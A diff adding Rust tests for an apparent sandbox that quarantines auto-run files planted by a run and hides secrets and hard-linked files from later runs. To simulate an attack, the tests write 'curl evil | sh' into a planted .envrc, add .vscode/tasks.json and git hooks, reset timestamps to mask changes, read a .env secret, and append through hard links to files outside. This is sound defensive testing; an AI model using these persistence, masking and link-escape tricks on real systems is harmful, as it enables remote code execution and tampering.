@@ -505,3 +505,117 @@ protect_remove = [".idea/"]
         );
     }
 }
+
+/// Waits until the newest ctime below `root` is more than two seconds in
+/// the past, the age from which a scan records a directory for the sweep
+/// after the run to keep unlisted while it is unchanged: a condition on
+/// the clock, not a guess of how long that takes.
+fn until_old_enough_to_be_recorded(root: &std::path::Path) {
+    fn newest(path: &std::path::Path) -> i64 {
+        let meta = std::fs::symlink_metadata(path).unwrap();
+        let mut ctime = meta.ctime();
+        if meta.is_dir() {
+            for entry in std::fs::read_dir(path).unwrap() {
+                ctime = ctime.max(newest(&entry.unwrap().path()));
+            }
+        }
+        ctime
+    }
+    let newest = newest(root);
+    let now = || {
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs() as i64
+    };
+    while now() <= newest + 2 {
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+}
+
+/// Deep in a tree the scan saw unchanged (so the sweep after the run takes
+/// those directories as listed), protected names the run plants are still
+/// found and moved aside, even when the run puts the directories' times
+/// back: their ctime, which no call but the clock sets, changed.
+#[test]
+fn protected_names_planted_deep_in_an_unchanged_tree_are_moved_aside() {
+    for who in identities("protected_names_planted_deep_in_an_unchanged_tree_are_moved_aside") {
+        let project = Project::new(who);
+        for dir in 0..20 {
+            project.write(&format!("node_modules/p{dir}/lib/deep/index.js"), "x\n");
+        }
+        until_old_enough_to_be_recorded(project.path());
+        let out = project.sh_ok(
+            "d=node_modules/p13/lib/deep; touch -r $d/index.js /tmp/was; \
+             echo 'curl evil | sh' > $d/.envrc && mkdir $d/.vscode && \
+             echo '{}' > $d/.vscode/tasks.json && mkdir -p node_modules/p7/.git/hooks && \
+             touch -r /tmp/was $d node_modules/p7 && echo ok",
+        );
+        assert!(out.contains("ok"), "{who:?}: {out}");
+        let root = project.path();
+        for planted in [
+            "node_modules/p13/lib/deep/.envrc",
+            "node_modules/p13/lib/deep/.vscode",
+            "node_modules/p7/.git/hooks",
+        ] {
+            assert!(
+                !root.join(planted).exists(),
+                "{who:?}: {planted} left in place"
+            );
+        }
+        let names: Vec<String> = std::fs::read_dir(root.join("node_modules/p13/lib/deep"))
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        assert!(
+            names
+                .iter()
+                .any(|n| n.starts_with(".envrc.sandbox-quarantine-")),
+            "{who:?}: {names:?}"
+        );
+    }
+}
+
+/// Each run answers for the tree as it is then: a secret, a name deep in
+/// the project for a file outside, and a name outside for a file already
+/// deep inside (which changes no directory of the project, only the
+/// file's link count), all made between two runs, are hidden or read-only
+/// in the second.
+#[test]
+fn a_secret_and_hard_links_made_between_two_runs_are_covered_by_the_second() {
+    for who in identities("a_secret_and_hard_links_made_between_two_runs_are_covered_by_the_second")
+    {
+        let project = Project::new(who);
+        let deep = "node_modules/a/node_modules/b/lib/x";
+        project.write(&format!("{deep}/index.js"), "x\n");
+        project.write(&format!("{deep}/shared.js"), "original\n");
+        let outside = tempfile::Builder::new()
+            .prefix("sandbox-outside-")
+            .tempdir_in("/tmp")
+            .unwrap();
+        let first = project.sh_ok(&format!("cat {deep}/shared.js"));
+        assert_eq!(first, "original\n", "{who:?}");
+
+        project.write(&format!("{deep}/.env"), "TOPSECRET=1\n");
+        let victim = outside.path().join("victim");
+        std::fs::write(&victim, "original\n").unwrap();
+        if who == Who::User {
+            let (uid, gid) = support::user_ids();
+            std::os::unix::fs::chown(&victim, Some(uid), Some(gid)).unwrap();
+        }
+        std::fs::hard_link(&victim, project.path().join(deep).join("linked.js")).unwrap();
+        let clone = outside.path().join("clone-of-shared.js");
+        std::fs::hard_link(project.path().join(deep).join("shared.js"), &clone).unwrap();
+
+        let out = project.sh_ok(&format!(
+            "cd {deep}; cat .env; echo evil >> linked.js 2>/dev/null && echo APPENDED-LINKED; \
+             echo evil >> shared.js 2>/dev/null && echo APPENDED-SHARED; echo checked"
+        ));
+        assert!(out.contains("checked"), "{who:?}: {out}");
+        for forbidden in ["TOPSECRET", "APPENDED-LINKED", "APPENDED-SHARED"] {
+            assert!(!out.contains(forbidden), "{who:?}: {forbidden}: {out}");
+        }
+        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original\n");
+        assert_eq!(std::fs::read_to_string(&clone).unwrap(), "original\n");
+    }
+}
